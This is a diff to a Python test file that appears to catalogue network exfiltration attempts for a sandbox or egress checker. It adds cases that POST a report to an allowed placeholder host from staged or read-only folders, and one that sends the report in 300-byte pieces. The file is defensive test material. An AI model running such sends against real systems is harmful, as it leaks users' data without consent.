@@ -131,6 +131,12 @@ web("http://{PUBLIC}/in", report)
 web("https://{PUBLIC}/in", report)
 """),
     NetAttempt(1, "POST to an allowed host", "T1041", 'web("http://inspected.example/in", report)', rule="passage_leaves", effect=carried),
+    *[NetAttempt(1, f"POST to an allowed host, from a folder that is {mode}", "T1041", 'web("http://inspected.example/in", report)',
+                 mode=mode, rule="passage_leaves", effect=carried) for mode in ("staged", "read-only")],
+    NetAttempt(1, "pieces to an allowed host, from a folder that is staged", "T1041", """
+for piece in pieces(report, 300):
+    web("http://inspected.example/in", piece)
+""", mode="staged", rule="passage_leaves", effect=carried),
     NetAttempt(1, "POST over TLS to an allowed host", "T1041", 'web("https://inspected.example/in", report)', rule="passage_leaves", effect=carried),
     NetAttempt(1, "POST in HTTP to an allowed host", "T1041", 'web("http://opaque.example/in", report)', allow=['{ host = "opaque.example" }'],
                rule="passage_leaves", effect=carried),
